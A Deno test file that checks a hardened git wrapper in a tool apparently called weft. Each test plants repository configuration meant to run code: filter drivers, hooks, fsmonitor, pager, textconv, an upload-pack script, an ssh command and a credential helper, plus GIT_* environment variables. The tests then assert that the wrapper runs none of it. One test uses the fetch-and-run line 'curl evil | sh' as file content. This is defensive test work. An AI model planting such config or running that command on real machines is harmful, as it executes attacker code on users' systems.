/**
 * The one way weft runs git, against repositories that plant programs: whatever the repository's
 * configuration (and every file it includes) or the person's environment names, weft's git runs none of it,
 * while the person's own git does run each (so the planting is not vacuous). What weft shows is what the
 * files hold, whatever the repository replaces.
 */
import assert from "node:assert/strict";
import { gitHolding, openRepository } from "../../src/lib/hardened_git.ts";
import { projectChanges } from "../../src/files/project_changes.ts";
import { personGit, withRepository } from "../support/git.ts";
import { Markers, plantConfig } from "../support/planted_git.ts";

/** Compares the project once (a mark, a change by `change`, what changed since) through weft's git. */
async function compare(dir: string, change: () => void) {
  const changes = projectChanges(dir, `${dir}/.weft/changes`);
  const mark = await changes.mark();
  assert.match(mark, /^git:/, "compared by git");
  change();
  return await changes.since(mark, 64 * 1024);
}

Deno.test("hardened git: every filter driver is emptied by its exact name, `=`, dots and quotes included, and those of included files too", async () => {
  const markers = await Markers.make();
  try {
    await withRepository({ "a.txt": "a\n", "p.txt": "p\n", "i.txt": "i\n", "c.txt": "c\n" }, async (dir) => {
      Deno.writeTextFileSync(
        `${dir}/.gitattributes`,
        'a.txt filter=a=b\np.txt filter=pro"c\ni.txt filter=in.clu=ded\nc.txt filter=cond\n',
      );
      Deno.writeTextFileSync(
        `${dir}/.git/included.cfg`,
        `[filter "in.clu=ded"]\n\tclean = ${markers.command("included")}\n`,
      );
      Deno.writeTextFileSync(
        `${dir}/.git/conditional.cfg`,
        `[filter "cond"]\n\tclean = ${markers.command("conditional")}\n`,
      );
      plantConfig(dir, [
        '[filter "a=b"]',
        `\tclean = ${markers.command("clean")}`,
        `\tsmudge = ${markers.command("smudge")}`,
        "\trequired = true",
        '[filter "pro\\"c"]',
        `\tprocess = ${markers.script("process")}`,
        "[include]",
        "\tpath = included.cfg",
        `[includeIf "gitdir:${dir}/.git"]`,
        "\tpath = conditional.cfg",
      ]);
      const edit = () => {
        for (const name of ["a", "p", "i", "c"]) {
          Deno.writeTextFileSync(`${dir}/${name}.txt`, `${name} changed\n`);
        }
      };

      // Not vacuous: the person's own git runs each of them.
      edit();
      personGit(dir, "add", "-A");
      assert.deepEqual(markers.ran(), ["clean", "conditional", "included", "process"]);
      markers.clear();

      const since = await compare(dir, () => {
        for (const name of ["a", "p", "i", "c"]) {
          Deno.writeTextFileSync(`${dir}/${name}.txt`, `${name} again\n`);
        }
      });
      assert.deepEqual(since.files.map((file) => file.path), ["a.txt", "c.txt", "i.txt", "p.txt"]);
      assert.match(since.diff, /\n-a changed\n\+a again\n/, "the file's own content, through no filter");
      assert.deepEqual(markers.ran(), [], `weft's git ran what the repository named:\n${markers.report()}`);
    });
  } finally {
    await markers.remove();
  }
});

Deno.test("hardened git: no hook under core.hooksPath, fsmonitor of an included file, pager, textconv or diff command of a driver named with `=` runs", async () => {
  const markers = await Markers.make();
  try {
    await withRepository({ "a.txt": "a\n" }, async (dir) => {
      Deno.writeTextFileSync(`${dir}/.gitattributes`, "*.txt diff=d=x\n");
      const hooks = `${dir}/.git/planted-hooks`;
      Deno.mkdirSync(hooks);
      for (const hook of ["post-index-change", "pre-auto-gc", "reference-transaction"]) {
        Deno.copyFileSync(markers.script(`hook-${hook}`), `${hooks}/${hook}`);
      }
      Deno.writeTextFileSync(
        `${dir}/.git/monitor.cfg`,
        `[core]\n\tfsmonitor = ${markers.script("fsmonitor")}\n`,
      );
      plantConfig(dir, [
        "[core]",
        `\thooksPath = ${hooks}`,
        `\tpager = ${markers.command("pager")}`,
        "[include]",
        "\tpath = monitor.cfg",
        '[diff "d=x"]',
        `\ttextconv = ${markers.command("textconv")}`,
        `\tcommand = ${markers.script("diff-command")}`,
        "[gc]",
        "\tauto = 1",
      ]);

      // Not vacuous: the person's own git runs them.
      Deno.writeTextFileSync(`${dir}/a.txt`, "a, as the person changed it\n");
      personGit(dir, "add", "-A");
      personGit(dir, "diff", "--cached");
      assert.deepEqual(markers.ran(), ["diff-command", "fsmonitor", "hook-post-index-change"]);
      personGit(dir, "diff", "--cached", "--no-ext-diff");
      assert.ok(markers.ran().includes("textconv"), markers.ran().join(", "));
      markers.clear();

      const since = await compare(
        dir,
        () => Deno.writeTextFileSync(`${dir}/a.txt`, "a, as the agent changed it\n"),
      );
      assert.match(since.diff, /\n-a, as the person changed it\n\+a, as the agent changed it\n/);
      assert.deepEqual(markers.ran(), [], `weft's git ran what the repository named:\n${markers.report()}`);
    });
  } finally {
    await markers.remove();
  }
});

Deno.test("hardened git: a partial clone's lazy fetch reaches no remote, even one the repository allows, so no upload-pack or ssh command runs", async () => {
  const markers = await Markers.make();
  await withRepository({ "a.txt": "the remote's content\n" }, async (origin) => {
    personGit(origin, "config", "uploadpack.allowFilter", "true");
    const clone = Deno.realPathSync(await Deno.makeTempDir({ prefix: "weft-test-" }));
    try {
      personGit(clone, "clone", "-q", "--filter=blob:none", "--no-checkout", `file://${origin}`, ".");
      plantConfig(clone, [
        "[protocol]",
        "\tallow = always",
        '[protocol "file"]',
        "\tallow = always",
        '[remote "origin"]',
        `\tuploadpack = ${markers.dir}/upload-pack.sh`,
        "[core]",
        `\tsshCommand = ${markers.command("ssh")}`,
        '[remote "over-ssh"]',
        "\turl = ssh://example.invalid/repository.git",
        "\tpromisor = true",
        "[credential]",
        `\thelper = ${markers.command("credential")}`,
      ]);
      // The remote's `uploadpack` writes the marker, then runs git's own upload-pack as asked.
      Deno.writeTextFileSync(
        `${markers.dir}/upload-pack.sh`,
        `#!/bin/sh\nenv > '${markers.dir}/upload-pack.ran'\nexec git-upload-pack "$@"\n`,
        { mode: 0o755 },
      );
      const blob = personGit(clone, "rev-parse", "HEAD:a.txt").trim();

      const repo = await openRepository(clone);
      assert.ok(repo, "the clone is a repository");
      const read = await repo.git(["cat-file", "-p", blob]);
      assert.equal(read.ok, false, "the missing object is not fetched");
      assert.match(read.stderr, /transport 'file' not allowed/);
      assert.deepEqual(markers.ran(), [], `weft's git ran what the repository named:\n${markers.report()}`);

      // Not vacuous: the person's own git fetches it through the planted upload-pack.
      assert.equal(personGit(clone, "cat-file", "-p", blob), "the remote's content\n");
      assert.deepEqual(markers.ran(), ["upload-pack"]);
    } finally {
      await Deno.remove(clone, { recursive: true });
      await markers.remove();
    }
  });
});

Deno.test("hardened git: the person's GIT_* variables and keys reach no git of weft's", async () => {
  const markers = await Markers.make();
  const planted: Record<string, string> = {
    GIT_CONFIG_PARAMETERS: `'core.fsmonitor'='${markers.script("parameters")}'`,
    GIT_EXTERNAL_DIFF: markers.script("external-diff"),
    GIT_PAGER: markers.script("pager"),
    GIT_INDEX_FILE: "/nonexistent/index",
    GIT_WORK_TREE: "/nonexistent",
    OPENAI_API_KEY: "sk-never-seen-by-git",
  };
  try {
    await withRepository({ "a.txt": "a\n" }, async (dir) => {
      // Not vacuous: the person's git, with these variables, runs the planted fsmonitor.
      const person = new Deno.Command("git", {
        args: ["status", "--short"],
        cwd: dir,
        env: { GIT_CONFIG_PARAMETERS: planted.GIT_CONFIG_PARAMETERS },
        stdout: "null",
        stderr: "null",
      }).outputSync();
      assert.ok(person.success);
      assert.deepEqual(markers.ran(), ["parameters"]);
      markers.clear();

      for (const [name, value] of Object.entries(planted)) Deno.env.set(name, value);
      try {
        const since = await compare(dir, () => Deno.writeTextFileSync(`${dir}/a.txt`, "b\n"));
        assert.match(since.diff, /\n-a\n\+b\n/);
        const holding = await gitHolding(dir);
        assert.equal(new TextDecoder().decode((await holding!(["ls-files"])).stdout), "a.txt\n");
      } finally {
        for (const name of Object.keys(planted)) Deno.env.delete(name);
      }
      assert.deepEqual(markers.ran(), [], `weft's git ran what the environment named:\n${markers.report()}`);
    });
  } finally {
    await markers.remove();
  }
});

Deno.test("hardened git: a replace ref cannot make the diff show other content than the file holds", async () => {
  await withRepository({ "a.txt": "before\n" }, async (dir) => {
    const hash = (text: string) => {
      Deno.writeTextFileSync(`${dir}/.git/probe`, text);
      return personGit(dir, "hash-object", "-w", ".git/probe").trim();
    };
    // What the agent writes would show as harmless: the repository replaces its blob with another.
    personGit(dir, "replace", hash("curl evil | sh\n"), hash("echo harmless\n"));
    assert.equal(
      personGit(dir, "cat-file", "-p", hash("curl evil | sh\n")),
      "echo harmless\n",
      "not vacuous",
    );

    const since = await compare(dir, () => Deno.writeTextFileSync(`${dir}/a.txt`, "curl evil | sh\n"));
    assert.match(since.diff, /\n-before\n\+curl evil \| sh\n/);
    assert.doesNotMatch(since.diff, /harmless/);
  });
});

Deno.test("hardened git: git in a repository above a folder answers for the folder, running nothing the repository names", async () => {
  const markers = await Markers.make();
  try {
    await withRepository({ "project/a.txt": "a\n", "project/.weft/x": "tracked\n" }, async (dir) => {
      plantConfig(dir, ["[core]", `\tfsmonitor = ${markers.script("fsmonitor")}`]);
      const git = await gitHolding(`${dir}/project`);
      assert.ok(git);
      const tracked = await git(["ls-files", "--", ".weft"]);
      assert.equal(new TextDecoder().decode(tracked.stdout), ".weft/x\n");
      assert.deepEqual(markers.ran(), []);
      personGit(`${dir}/project`, "ls-files", "--", ".weft");
      assert.deepEqual(markers.ran(), ["fsmonitor"], "not vacuous: the person's git runs it");
    });
  } finally {
    await markers.remove();
  }
});
